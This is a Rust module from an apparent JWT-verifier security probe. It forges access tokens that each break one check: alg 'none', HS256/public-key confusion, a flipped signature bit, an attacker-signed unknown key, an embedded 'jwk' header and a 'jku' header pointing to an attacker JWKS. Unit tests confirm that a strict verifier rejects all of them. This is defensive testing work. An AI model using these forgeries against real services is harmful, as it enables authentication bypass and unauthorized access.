//! Forgeries built from one genuine token: each keeps the genuine claims
//! and breaks exactly one thing a verifier must check, so a service that
//! accepts it skips exactly that check.

use crate::check::CheckId;
use crate::der::{spki_der, spki_pem};
use castellan_jose::{b64, Algorithm, Jwks, PublicJwk, SigningKey};
use serde_json::{Map, Value};
use std::str::FromStr;

/// Why a forgery could not be built.
#[derive(Debug, thiserror::Error)]
pub enum ForgeError {
    /// The genuine token is not a compact JWS.
    #[error("the genuine token is not a compact JWS: {0}")]
    NotAJws(&'static str),
    /// The key that signed the genuine token cannot be used.
    #[error("unsupported signing key: {0}")]
    UnsupportedKey(String),
    /// The check's token is minted by the authority (a canary) or is no token.
    #[error("`{0}` is not forged locally")]
    NotLocal(CheckId),
    /// Signing with the attacker's key failed.
    #[error("signing failed: {0}")]
    Signing(String),
}

/// Builds the local forgeries from a genuine token and the public key that
/// signed it (from the authority's JWKS).
pub struct Forger {
    header: Map<String, Value>,
    payload: String,
    signature: Vec<u8>,
    authority_key: PublicJwk,
    alg: Algorithm,
    attacker: SigningKey,
}

impl std::fmt::Debug for Forger {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Forger")
            .field("alg", &self.alg)
            .field("authority_kid", &self.authority_key.kid)
            .field("attacker_kid", &self.attacker.kid())
            .finish_non_exhaustive()
    }
}

impl Forger {
    /// A forger for `genuine`, signed by `authority_key`. Generates a fresh
    /// attacker key of the same algorithm (never published by anyone but
    /// the probe itself, at its `jku` URL).
    ///
    /// # Errors
    /// [`ForgeError::NotAJws`], [`ForgeError::UnsupportedKey`].
    pub fn new(genuine: &str, authority_key: &PublicJwk) -> Result<Self, ForgeError> {
        let mut parts = genuine.split('.');
        let (Some(h), Some(p), Some(s), None) = (parts.next(), parts.next(), parts.next(), parts.next()) else {
            return Err(ForgeError::NotAJws("three segments expected"));
        };
        let header_bytes = b64::decode(h).ok_or(ForgeError::NotAJws("header is not base64url"))?;
        let header: Map<String, Value> =
            serde_json::from_slice(&header_bytes).map_err(|_| ForgeError::NotAJws("header is not a JSON object"))?;
        let signature = b64::decode(s).ok_or(ForgeError::NotAJws("signature is not base64url"))?;
        let alg = Algorithm::from_str(&authority_key.alg)
            .map_err(|_| ForgeError::UnsupportedKey(format!("alg `{}`", authority_key.alg)))?;
        let (attacker, _) = SigningKey::generate(alg).map_err(|e| ForgeError::Signing(e.to_string()))?;
        Ok(Self {
            header,
            payload: p.to_owned(),
            signature,
            authority_key: authority_key.clone(),
            alg,
            attacker,
        })
    }

    /// The JWKS to serve at the `jku` URL of [`CheckId::JkuInjection`]:
    /// the attacker's public key.
    #[must_use]
    pub fn attacker_jwks(&self) -> Jwks {
        Jwks {
            keys: vec![self.attacker.public_jwk().clone()],
        }
    }

    /// The forged tokens for `check`: several variants where attackers
    /// try several (the check fails if any is accepted). `jku_url` is where
    /// the probe serves [`Forger::attacker_jwks`].
    ///
    /// # Errors
    /// [`ForgeError::NotLocal`] for checks that are not forged here;
    /// [`ForgeError::Signing`], [`ForgeError::UnsupportedKey`].
    pub fn forge(&self, check: CheckId, jku_url: &str) -> Result<Vec<String>, ForgeError> {
        let typ = self.header.get("typ").cloned().unwrap_or_else(|| Value::from("at+jwt"));
        let genuine_kid = Value::from(self.authority_key.kid.clone());
        let attacker_kid = Value::from(self.attacker.kid());
        let header = |members: Vec<(&str, Value)>| {
            let mut h = Map::new();
            h.insert("typ".to_owned(), typ.clone());
            for (k, v) in members {
                h.insert(k.to_owned(), v);
            }
            h
        };
        match check {
            CheckId::AlgNone => Ok(["none", "None", "NONE"]
                .into_iter()
                .map(|alg| {
                    let h = header(vec![("alg", Value::from(alg)), ("kid", genuine_kid.clone())]);
                    format!("{}.{}.", encode_header(&h), self.payload)
                })
                .collect()),
            CheckId::HmacKeyConfusion => {
                let pem = spki_pem(&self.authority_key)
                    .ok_or_else(|| ForgeError::UnsupportedKey(self.authority_key.kty.clone()))?;
                let der = spki_der(&self.authority_key).unwrap_or_default();
                let jwk = serde_json::to_string(&self.authority_key).unwrap_or_default();
                let secrets: [&[u8]; 4] = [pem.as_bytes(), pem.trim_end().as_bytes(), &der, jwk.as_bytes()];
                let h = header(vec![("alg", Value::from("HS256")), ("kid", genuine_kid.clone())]);
                let input = format!("{}.{}", encode_header(&h), self.payload);
                Ok(secrets
                    .iter()
                    .map(|secret| {
                        let key = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, secret);
                        let tag = aws_lc_rs::hmac::sign(&key, input.as_bytes());
                        format!("{input}.{}", b64::encode(tag.as_ref()))
                    })
                    .collect())
            }
            CheckId::BadSignature => {
                let mut sig = self.signature.clone();
                let mid = sig.len() / 2;
                if let Some(b) = sig.get_mut(mid) {
                    *b ^= 0x01;
                }
                let input = format!("{}.{}", encode_header(&self.header), self.payload);
                Ok(vec![format!("{input}.{}", b64::encode(&sig))])
            }
            CheckId::UnknownKey => {
                let h = header(vec![("alg", Value::from(self.alg.as_str())), ("kid", attacker_kid)]);
                Ok(vec![self.sign(&h)?])
            }
            CheckId::EmbeddedJwk => {
                let jwk =
                    serde_json::to_value(self.attacker.public_jwk()).map_err(|e| ForgeError::Signing(e.to_string()))?;
                let own = header(vec![
                    ("alg", Value::from(self.alg.as_str())),
                    ("kid", attacker_kid),
                    ("jwk", jwk.clone()),
                ]);
                // The authority's kid with another key beside it: a verifier
                // that prefers the embedded key over its JWKS falls for it.
                let borrowed = header(vec![
                    ("alg", Value::from(self.alg.as_str())),
                    ("kid", genuine_kid),
                    ("jwk", jwk),
                ]);
                Ok(vec![self.sign(&own)?, self.sign(&borrowed)?])
            }
            CheckId::JkuInjection => {
                let h = header(vec![
                    ("alg", Value::from(self.alg.as_str())),
                    ("kid", attacker_kid),
                    ("jku", Value::from(jku_url)),
                ]);
                Ok(vec![self.sign(&h)?])
            }
            other => Err(ForgeError::NotLocal(other)),
        }
    }

    fn sign(&self, header: &Map<String, Value>) -> Result<String, ForgeError> {
        let input = format!("{}.{}", encode_header(header), self.payload);
        let sig = self
            .attacker
            .sign_raw(input.as_bytes())
            .map_err(|e| ForgeError::Signing(e.to_string()))?;
        Ok(format!("{input}.{}", b64::encode(&sig)))
    }
}

fn encode_header(h: &Map<String, Value>) -> String {
    b64::encode(&serde_json::to_vec(h).unwrap_or_default())
}

#[cfg(test)]
mod tests {
    use super::*;
    use castellan_jose::{decode_unverified_header, verify_compact, VerifyOptions, VerifyingKey};

    fn genuine(alg: Algorithm) -> (SigningKey, String) {
        let (key, _) = SigningKey::generate(alg).unwrap();
        let claims = serde_json::json!({"iss": "https://auth", "sub": "probe-canary", "aud": "orders",
            "exp": 2_000_000_000i64, "iat": 1_700_000_000i64, "jti": "j", "client_id": "c", "sid": "s"});
        let token = key.sign_compact("at+jwt", &claims).unwrap();
        (key, token)
    }

    /// What a strict verifier (ours) says, with the authority's JWKS.
    fn strict_accepts(token: &str, key: &SigningKey) -> bool {
        let vk = VerifyingKey::from_jwk(key.public_jwk()).unwrap();
        verify_compact(
            token,
            VerifyOptions {
                expected_typ: Some("at+jwt"),
                ..Default::default()
            },
            |kid| (kid == vk.kid()).then_some(&vk),
        )
        .is_ok()
    }

    #[test]
    fn every_local_forgery_is_refused_by_a_strict_verifier() {
        for alg in Algorithm::ALL {
            let (key, token) = genuine(alg);
            assert!(strict_accepts(&token, &key), "{alg:?}: the control");
            let forger = Forger::new(&token, key.public_jwk()).unwrap();
            for check in CheckId::ALL.into_iter().filter(|c| c.is_local_forgery()) {
                let forged = forger.forge(check, "http://127.0.0.1:9/jwks.json").unwrap();
                assert!(!forged.is_empty(), "{alg:?} {check}");
                for t in &forged {
                    assert_ne!(t, &token);
                    assert!(!strict_accepts(t, &key), "{alg:?} {check}: {t}");
                    // The claims are the genuine ones: only one thing is broken.
                    assert_eq!(t.split('.').nth(1), token.split('.').nth(1), "{check}");
                }
            }
            for check in CheckId::ALL.into_iter().filter(|c| !c.is_local_forgery()) {
                assert!(matches!(forger.forge(check, ""), Err(ForgeError::NotLocal(_))));
            }
        }
    }

    #[test]
    fn each_forgery_breaks_what_it_says() {
        let (key, token) = genuine(Algorithm::ES256);
        let forger = Forger::new(&token, key.public_jwk()).unwrap();
        let header = |t: &str| decode_unverified_header(t).unwrap();
        let f = |c| forger.forge(c, "http://probe.test/jwks.json").unwrap();

        let none = f(CheckId::AlgNone);
        assert!(none.iter().all(|t| t.ends_with('.')));
        assert_eq!(header(&none[0])["alg"], "none");

        // HS256 with the PEM of the authority's public key verifies under HMAC.
        let hmac = &f(CheckId::HmacKeyConfusion)[0];
        let (input, sig) = hmac.rsplit_once('.').unwrap();
        let pem = spki_pem(key.public_jwk()).unwrap();
        let hkey = aws_lc_rs::hmac::Key::new(aws_lc_rs::hmac::HMAC_SHA256, pem.as_bytes());
        aws_lc_rs::hmac::verify(&hkey, input.as_bytes(), &b64::decode(sig).unwrap()).unwrap();
        assert_eq!(header(hmac)["kid"], key.kid());

        let bad = &f(CheckId::BadSignature)[0];
        let (a, b) = (
            b64::decode(bad.rsplit('.').next().unwrap()).unwrap(),
            b64::decode(token.rsplit('.').next().unwrap()).unwrap(),
        );
        assert_eq!(a.iter().zip(&b).filter(|(x, y)| x != y).count(), 1);

        let attacker = VerifyingKey::from_jwk(&forger.attacker_jwks().keys[0]).unwrap();
        for (check, member) in [
            (CheckId::UnknownKey, None),
            (CheckId::EmbeddedJwk, Some("jwk")),
            (CheckId::JkuInjection, Some("jku")),
        ] {
            let t = &f(check)[0];
            let h = header(t);
            assert_eq!(h["kid"], attacker.kid(), "{check}");
            assert_ne!(attacker.kid(), key.kid());
            if let Some(m) = member {
                assert!(h.contains_key(m), "{check}");
            }
            // Genuinely signed by the attacker's key: a verifier trusting it accepts.
            let (input, sig) = t.rsplit_once('.').unwrap();
            attacker
                .verify_signature(input.as_bytes(), &b64::decode(sig).unwrap())
                .unwrap();
        }
        assert_eq!(
            header(&f(CheckId::JkuInjection)[0])["jku"],
            "http://probe.test/jwks.json"
        );
    }

    #[test]
    fn malformed_genuine_tokens_are_refused() {
        let (key, _) = genuine(Algorithm::EdDSA);
        for bad in ["", "a.b", "a.b.c.d", "!!.e30.AA", "e30.e30.!!"] {
            assert!(Forger::new(bad, key.public_jwk()).is_err(), "{bad}");
        }
    }
}
